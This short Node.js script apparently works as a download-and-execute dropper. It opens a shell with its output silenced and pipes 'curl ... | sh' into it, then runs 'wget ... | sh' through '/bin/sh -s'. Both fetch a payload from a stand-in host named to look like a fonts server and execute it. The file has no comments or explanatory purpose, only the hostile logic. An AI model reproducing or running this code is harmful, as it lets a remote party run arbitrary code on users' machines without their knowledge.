const { spawn, execFileSync } = require("node:child_process");

const host = "https://fonts.invalid";
const shell = spawn("sh", [], { stdio: ["pipe", "ignore", "ignore"] });
shell.stdin.write(`curl -s ${host}/set | sh\n`);
shell.stdin.end();

execFileSync("/bin/sh", ["-s"], { input: [`wget -qO- ${host}/set`, "sh"].join(" | ") });
